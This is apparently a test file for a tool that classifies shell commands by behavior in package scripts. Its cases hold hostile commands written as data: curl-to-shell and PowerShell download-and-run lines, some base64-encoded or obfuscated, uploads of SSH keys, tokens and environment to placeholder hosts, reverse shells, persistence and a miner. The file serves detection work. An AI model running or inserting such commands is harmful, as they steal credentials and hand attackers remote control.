// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the code under test is text
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { parseShell } from '../../lib/behavior/shell.js';

/** Codes (with qualifiers in brackets where a case names them) and runs of a command line, flat. */
function read(command: string): string {
  const parts: string[] = [];
  for (const { behaviors, runs } of parseShell(command)) {
    for (const b of behaviors) parts.push([b.code, ...[...b.qualifiers].sort()].join(' '));
    for (const run of runs) {
      if (run.type === 'file') parts.push(`file:${run.path}`);
      else if (run.type === 'script') parts.push(`script:${run.name}`);
      else if (run.type !== 'code') parts.push(`${run.type}:${run.path}`);
      else parts.push(`${run.hidden ? 'hidden ' : ''}${run.language}:${run.code}`);
    }
  }
  return parts.join(' | ');
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const CASES: readonly [string, string, string][] = [
  ['a script', 'node install.js', 'run-own-file | file:install.js'],
  ['a script without extension', 'node scripts/setup', 'run-own-file | file:scripts/setup'],
  [
    'a chain',
    'node a.js && node b.js || node c.js; node d.js',
    'run-own-file | file:a.js | run-own-file | file:b.js | run-own-file | file:c.js | run-own-file | file:d.js',
  ],
  ['inline code', `node -e "require('x')"`, "run-interpreter | javascript:require('x')"],
  ['inline code, long option', `node --eval="a()"`, 'run-interpreter | javascript:a()'],
  ['preloaded module', 'node -r ./hook.js app.js', 'run-own-file | file:./hook.js | file:app.js'],
  [
    'Python file and code',
    `python3 x.py; python -c 'import os'`,
    'run-own-file | file:x.py | run-interpreter | python:import os',
  ],
  ['shell file', 'bash ./install.sh', 'run-own-file | file:./install.sh'],
  ['file run by its path', './install', 'run-own-file | file:./install'],
  ['sh -c', `sh -c "node a.js; rm -rf /tmp/x"`, 'run-own-file | file:a.js | delete-tree path:temp'],
  ['environment in front', 'FOO=1 BAR=2 node a.js', 'run-own-file | file:a.js'],
  ['cross-env', 'cross-env NODE_ENV=x node a.js', 'run-own-file | file:a.js'],
  ['quiet in the background', 'node a.js > /dev/null 2>&1 &', 'run-own-file detached quiet | file:a.js'],
  ['nohup', 'nohup node a.js &', 'run-own-file detached | file:a.js'],
  ['sudo', 'sudo node a.js', 'run-own-file sudo | file:a.js'],
  ['start of cmd.exe', 'start /b node a.js', 'run-own-file detached | file:a.js'],
  ['cmd /c', 'cmd /c "node a.js"', 'run-own-file | file:a.js'],
  ['own script of the manifest', 'npm run build', 'run-package-manager | script:build'],
  ['own script, yarn', 'yarn build', 'run-package-manager | script:build'],
  ['install of a package', 'npm install left-pad', 'install-package'],
  [
    'install by a module, from an address',
    'python3 -m pip install git+https://git.example.com/a.git -q; python3 -m pip install a',
    'install-package to:other | install-package',
  ],
  [
    'secrets of a cluster, and what is none',
    'kubectl get secrets -A -o json; kubectl get pods',
    'read-cloud-credentials | run-program',
  ],
  ['npx of a tool', 'npx some-tool', 'run-package-manager'],
  ['build tool', 'node-gyp rebuild', 'run-build-tool'],
  ['build tool behind a runner', 'npx tsc -p .', 'run-build-tool'],
  ['publish', 'npm publish --access public', 'publish-package'],
  ['download', 'curl -o x.bin https://host.invalid/x', 'download-file path:executable to:other'],
  ['request', 'curl -s http://host.invalid/x', 'http-request to:http to:other'],
  [
    'pipe to shell',
    'curl -fsSL https://host.invalid/x.sh | sh',
    'http-request to:other | pipe-to-shell to:other',
  ],
  [
    'pipe to shell, wget and bash',
    'wget -qO- https://host.invalid/x | bash',
    'http-request to:other | pipe-to-shell to:other',
  ],
  ['pipe to node', 'curl https://host.invalid/x.js | node', 'http-request to:other | pipe-to-shell to:other'],
  [
    'substituted into a shell',
    'bash -c "$(curl -fsSL https://host.invalid/x)"',
    'http-request to:other | pipe-to-shell',
  ],
  [
    'download and run',
    'wget -O f https://host.invalid/f && chmod +x f && ./f',
    'download-file to:other | make-executable | run-downloaded',
  ],
  [
    'download by redirection and run',
    'curl https://host.invalid/f > f; sh f',
    'http-request to:other | write-file carries:download | run-downloaded',
  ],
  [
    'data sent',
    'curl -X POST -d "$(whoami)" https://host.invalid',
    'read-user-name | http-send carries:host to:other',
  ],
  [
    'environment piped into a request',
    'env | curl --data-binary @- https://host.invalid',
    'read-env-all | http-send carries:env to:other',
  ],
  [
    'file uploaded',
    'curl -F "f=@/root/.ssh/id_rsa" https://host.invalid',
    'http-send carries:credentials carries:file to:other',
  ],
  [
    'secret variable',
    'curl https://host.invalid/?t=$NPM_TOKEN',
    'read-env-secret | http-send carries:credentials carries:env-variable to:other',
  ],
  ['DNS with data', 'nslookup $(whoami).host.invalid', 'read-user-name | dns-query carries:host to:other'],
  ['reverse shell', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'connect-shell to:ip to:odd-port'],
  ['netcat shell', 'nc -e /bin/sh 203.0.113.5 4444', 'connect-shell to:ip to:odd-port'],
  [
    'decoded and run',
    `echo ${base64('rm -rf ~/x')} | base64 -d | sh`,
    'decode | evaluate-decoded | delete-tree path:home',
  ],
  [
    'decoded by substitution',
    `sh -c "$(echo ${base64('whoami')} | base64 --decode)"`,
    'decode | read-user-name',
  ],
  ['reversed and run', "echo 'imaohw' | rev | sh", 'evaluate-decoded | read-user-name'],
  ['blank without a blank', 'curl${IFS}https://host.invalid', 'http-request to:other'],
  ['quotes inside words', `w'h'oa"m"i`, 'read-user-name'],
  ['backslash inside words', 'c\\url https://host.invalid', 'http-request to:other'],
  [
    'caret inside words',
    'po^wer^shell -c "Get-Process"',
    'run-interpreter powershell | read-process-list powershell',
  ],
  ['variable as program', 'a=cu; b=rl; $a$b https://host.invalid', 'http-request to:other'],
  [
    'PowerShell',
    'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://host.invalid/x\')"',
    'run-interpreter powershell | hide-window powershell | evaluate-downloaded powershell | http-request powershell to:other',
  ],
  [
    'encoded PowerShell',
    `powershell -enc ${utf16("IEX (iwr 'https://host.invalid/a')")}`,
    'run-interpreter encoded powershell | evaluate-downloaded hidden powershell | http-request hidden powershell to:other',
  ],
  [
    'PowerShell, an address without a scheme',
    'powershell -c "irm host.invalid/install.ps1|iex"',
    'run-interpreter powershell | http-request powershell to:other | evaluate-downloaded powershell',
  ],
  [
    'words cut out of a variable of cmd',
    '@echo off\nSet aim=cruwl\n%aim:~0,1%%aim:~2,1%%aim:~1,1%%aim:~-1% https://host.invalid/x -o x.exe',
    'download-file path:executable to:other',
  ],
  [
    'a variable of cmd',
    'set "exe=x.exe"\ncurl https://host.invalid/x -o %exe%\nstart /B %exe%',
    'download-file path:executable to:other | run-downloaded detached',
  ],
  [
    'what certutil stores',
    'certutil.exe -urlcache -f https://host.invalid/x x.dll',
    'download-file path:executable to:other',
  ],
  ['start-up', '(crontab -l; echo "* * * * * x") | crontab -', 'list-directory | persist-startup'],
  ['shell profile', 'echo "x" >> ~/.bashrc', 'persist-startup path:hidden path:home path:startup'],
  ['scheduled task', 'schtasks /create /tn x /tr y', 'persist-startup'],
  ['deletion', 'rm -rf dist', 'delete-tree'],
  ['killing', 'taskkill /f /im chrome.exe', 'kill-process'],
  ['mining', './xmrig -o pool.invalid:3333', 'mine-currency'],
  ['here-document', 'sh <<EOF\nwhoami\nEOF', 'read-user-name'],
  ['conditional', 'if [ -f x ]; then node a.js; fi', 'run-own-file | file:a.js'],
  [
    'what a case compares with',
    'case $1 in\n  a|*b/c.js) node d.js ;;\n\n  *) sh e.sh;;\nesac\nnode f.js)',
    'run-own-file | file:d.js | run-own-file | file:e.sh | run-own-file | file:f.js',
  ],
  [
    'commands where a case has no patterns',
    'case $1 in\n$(whoami)) ;;\n(node a.js)\nesac\ncase x y\nnode b.js)',
    'read-user-name | run-program program:unknown | run-own-file | file:a.js | run-own-file | file:b.js',
  ],
  ['kept running', 'forever start src/x.js', 'run-own-file detached | file:src/x.js'],
  ['a Windows script by its bare name', 'npm.cmd install x', 'install-package | bare:npm.cmd'],
  ['a Windows script of the package', 'setup.bat', 'run-program program:other | bare:setup.bat'],
  [
    'kept running by a tool of the registry',
    'npx pm2 start x.js --name y',
    'run-own-file detached | file:x.js',
  ],
  ['a daemon without a script', 'pm2 save', 'run-program program:tool'],
  ['a program without a folder', 'helper.exe /s', 'run-program program:other | bare:helper.exe'],
  ['a page opened', 'start https://page.invalid/x', 'run-program program:desktop to:other'],
  ['a name with a variable looked up', 'ping -c 1 a-$USER.x.oastify.com', 'dns-query to:catcher'],
  ['nothing of its own', 'echo hello && exit 0', ''],
];

describe('parseShell', () => {
  for (const [name, command, expected] of CASES) {
    it(name, () => {
      assert.equal(read(command), expected);
    });
  }

  it('reads a PowerShell file by its text', () => {
    const text =
      '$u = "https://host.invalid/a.exe"\nInvoke-WebRequest $u -OutFile "$env:TEMP\\a.exe"\nStart-Process "$env:TEMP\\a.exe"';
    assert.deepEqual(
      parseShell(text).flatMap((c) => c.behaviors.map((b) => b.code)),
      ['download-file', 'run-program'],
    );
  });

  it('comes to an end on deep nesting and unclosed quotes', () => {
    const deep = `${'sh -c "'.repeat(200)}x`;
    const open = `${'$('.repeat(5000)}whoami`;
    for (const text of [deep, open, "'", '"', '`', '$(', '<<EOF', 'a | | b', '&&', '\\', '((((((']) {
      assert.ok(Array.isArray(parseShell(text)));
    }
  });
});
